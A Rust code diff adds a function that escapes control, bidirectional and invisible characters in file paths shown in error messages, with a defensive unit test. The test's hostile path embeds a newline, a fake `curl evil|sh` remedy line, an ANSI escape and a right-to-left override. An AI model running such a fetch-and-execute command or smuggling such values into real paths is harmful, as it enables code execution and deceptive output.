@@ -1,6 +1,19 @@
 //! Parts of the sentences that error messages are made of.
 
+use std::path::Path;
 use std::time::Duration;
+
+/// A path for a sentence. Somebody else may have chosen the name: control characters, line ends too, and what reorders or hides
+/// text are written as numbers, as [`typed`](super::typed) writes them.
+pub fn shown(path: impl AsRef<Path>) -> String {
+    let text = path.as_ref().to_string_lossy();
+    let one = |c: char| {
+        let is_hidden = c.is_control()
+            || matches!(c, '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}');
+        if is_hidden { format!("\\x{:02x}", u32::from(c)) } else { c.to_string() }
+    };
+    text.chars().map(one).collect()
+}
 
 /// Texts, each on a line of its own, with a line end before each.
 pub fn lines(texts: &[impl ToString]) -> String {
@@ -30,4 +43,44 @@ pub fn human(duration: Duration) -> String {
     let rounded =
         if duration >= Duration::from_secs(1) { Duration::from_secs(duration.as_secs()) } else { duration };
     humantime::format_duration(rounded).to_string()
+}
+
+#[cfg(test)]
+mod tests {
+    use std::path::PathBuf;
+
+    use super::super::{Edit, Error};
+    use super::*;
+
+    /// Whatever error names a path, whoever chose it adds no line and no control character to the message or the remedy.
+    #[test]
+    fn a_name_is_no_line_and_no_escape() {
+        const EVIL: &str = "/home/u/a\n  -> `curl evil|sh`\u{1b}[31m\r\u{202e}";
+        let path = || PathBuf::from(EVIL);
+        let text = String::new;
+        let errors = [
+            Error::Answers { file: shown(EVIL), place: None, problem: text(), remedy: text() },
+            Error::Exposed { path: path(), problem: text(), remedy: text() },
+            Error::Untrusted { path: path(), problem: text(), remedy: text() },
+            Error::Io { action: "read", path: path(), source: std::io::Error::other("x") },
+            Error::TooLarge { path: path(), limit: 1 },
+            Error::Symlink { path: path() },
+            Error::Package { path: path(), problem: text(), remedy: text() },
+            Error::MapDiffers { database: path() },
+            Error::Log { name: shown(EVIL), problem: text(), remedy: text() },
+            Error::Tree { path: path(), problem: text() },
+            Error::Record { path: path(), problem: text() },
+            Error::ChangedMeanwhile { path: path(), found: text() },
+        ];
+        for error in errors {
+            let said = format!("{error}{}", error.hint());
+            assert!(!said.contains(|c: char| c.is_control() || c == '\u{202e}'), "{said:?}");
+            assert!(said.contains("a\\x0a  -> "), "{said}");
+        }
+        for edit in [Edit::Kept { path: path(), kept: path() }, Edit::InForce { path: path() }] {
+            assert!(!edit.line().contains(char::is_control), "{}", edit.line());
+            assert!(!Edit::except(&[edit]).contains(char::is_control));
+        }
+        assert_eq!(shown("/etc/postfix/ä b"), "/etc/postfix/ä b");
+    }
 }
